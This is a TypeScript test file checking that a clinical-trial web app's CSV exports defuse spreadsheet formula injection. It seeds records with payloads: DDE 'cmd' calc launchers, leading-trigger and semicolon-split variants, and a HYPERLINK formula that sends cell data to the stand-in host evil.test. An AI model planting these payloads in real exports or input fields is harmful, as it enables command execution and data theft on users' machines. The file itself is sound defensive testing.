/**
 * Formula injection where it lands: free text holding the classic spreadsheet payloads (`=cmd|…`,
 * `+`, `-`, `@`, a leading tab or carriage return, and the same after a `;`), stored in every text
 * column an export shows, then every CSV export of the web app run in this process. Each cell, read
 * back as a spreadsheet would (RFC 4180), must not start a formula — lib/csv.ts defuses a leading
 * trigger with an apostrophe — and no unquoted cell may hide one behind a semicolon, the separator
 * a spreadsheet uses in locales whose decimal mark is a comma.
 */
import { beforeAll, describe, expect, it } from "vitest";
import { getDb } from "@/db";
import { studies, subjectNotes, visits } from "@/db/schema";
import type { Actor } from "@/lib/actor";
import * as lists from "@/lib/export/lists";
import { withTestDb } from "@/tests/db";
import { insertAe } from "@/tests/fixtures-aes";
import { addSubject } from "@/tests/fixtures-screening";
import { insertTask } from "@/tests/fixtures-tasks";
import { twoSites, type TwoSites } from "@/tests/fixtures";

withTestDb();

const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.test/?"&A1,"click")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "Headache;=cmd|' /C calc'!A0",
  'Nausea,"=cmd|\' /C calc\'!A0"',
];
const TRIGGER = /^[=+\-@\t\r]/;

/** RFC 4180 cells, each with whether it was quoted. */
function parseCsv(text: string): { value: string; quoted: boolean }[][] {
  const rows: { value: string; quoted: boolean }[][] = [];
  let row: { value: string; quoted: boolean }[] = [];
  let i = text.charCodeAt(0) === 0xfeff ? 1 : 0;
  while (i < text.length) {
    let value = "";
    let quoted = false;
    if (text[i] === '"') {
      quoted = true;
      i++;
      while (i < text.length) {
        if (text[i] === '"' && text[i + 1] === '"') {
          value += '"';
          i += 2;
        } else if (text[i] === '"') {
          i++;
          break;
        } else value += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== "," && text[i] !== "\r" && text[i] !== "\n") value += text[i++];
    }
    row.push({ value, quoted });
    if (text[i] === ",") i++;
    else {
      if (text[i] === "\r") i++;
      if (text[i] === "\n") i++;
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

let f: TwoSites;
let coordA: Actor;
let admin: Actor;
let invA: Actor;
beforeAll(async () => {
  f = await twoSites();
  coordA = await f.actor(f.users.coordA.id);
  admin = await f.actor(f.users.admin.id);
  invA = await f.actor(f.users.invA.id);
  const db = await getDb();
  for (const text of FORMULAS) {
    const subject = await addSubject(f, "A", { fullName: text });
    await insertAe(f, { subjectId: subject.id, eventTerm: text, serious: true, seriousnessCriteria: ["hospitalization"], severity: "severe", grade: 3 });
    await insertTask(f, { title: text, subjectId: subject.id, entityId: subject.id });
    await db.insert(visits).values({ siteId: f.siteA.id, studyId: f.studyA.id, subjectId: subject.id, visitType: "treatment", coordinatorId: f.users.coordA.id, scheduledAt: new Date(), location: text, statusReason: text });
    await db.insert(subjectNotes).values({ siteId: f.siteA.id, studyId: f.studyA.id, subjectId: subject.id, authorId: f.users.coordA.id, noteType: "general", noteText: text });
    await db.insert(studies).values({ protocolId: `F-${FORMULAS.indexOf(text)}`, title: text, status: "recruiting", principalInvestigatorId: f.users.invA.id, siteId: f.siteA.id });
  }
});

const EXPORTS: [string, keyof typeof lists, () => Actor][] = [
  ["subjects", "exportSubjectList", () => coordA],
  ["screening queue", "exportScreeningQueueList", () => coordA],
  ["visits", "exportVisitList", () => coordA],
  ["adverse events", "exportAdverseEventList", () => coordA],
  ["safety queue", "exportSafetyQueueList", () => invA],
  ["eligibility", "exportEligibilityList", () => invA],
  ["tasks", "exportTaskList", () => coordA],
  ["studies (admin)", "exportStudyList", () => admin],
];

describe("formula injection in CSV exports", () => {
  for (const [name, fn, who] of EXPORTS) {
    it(`${name}: no cell starts a formula`, async () => {
      const response = await (lists[fn] as (actor: Actor, params: Record<string, string>) => Promise<Response>)(who(), { retired: "include", view: "all", range: "all" });
      expect(response.status).toBe(200);
      const rows = parseCsv(await response.text());
      const cells = rows.slice(1).flat();
      for (const cell of cells) {
        expect(cell.value, `${name}: ${JSON.stringify(cell.value)}`).not.toMatch(TRIGGER);
        // Unquoted, a semicolon would split the cell where `;` is the separator.
        if (!cell.quoted) for (const piece of cell.value.split(";").slice(1)) expect(piece, `${name}: ${JSON.stringify(cell.value)} unquoted`).not.toMatch(TRIGGER);
      }
      return cells;
    });
  }

  it("the payloads reached at least the subject, AE, task and study exports (the check above is not vacuous)", async () => {
    for (const [fn, actor] of [["exportSubjectList", coordA], ["exportAdverseEventList", coordA], ["exportTaskList", coordA], ["exportStudyList", admin]] as const) {
      const text = await (await (lists[fn] as (actor: Actor, params: Record<string, string>) => Promise<Response>)(actor, {})).text();
      expect(text, fn).toContain("cmd|' /C calc'!A0");
    }
  });
});
